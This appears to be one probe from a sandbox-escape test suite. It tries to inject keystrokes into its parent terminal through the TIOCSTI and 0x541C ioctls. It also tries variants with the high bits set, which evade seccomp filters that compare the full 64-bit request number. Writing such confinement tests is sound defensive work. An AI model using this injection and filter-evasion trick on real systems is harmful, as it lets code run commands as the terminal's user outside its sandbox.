"""Type into the terminal that it was started from.

gain: commands as the person at the terminal
attack: T1059
stopped by: seccomp
unconfined: host
"""

import ctypes

from attacker import call, each, first


def attempt(world):
    # The kernel takes the low half of the number alone: what a filter compares must be that half too.
    def push(request):
        call("ioctl", 0, request, ctypes.create_string_buffer(b"\x03"))
        return f"ioctl {request:#x} was taken"

    return first(*each((0x5412, 0x100005412, 0x541C, 0xFFFFFFFF0000541C - (1 << 64)), push))
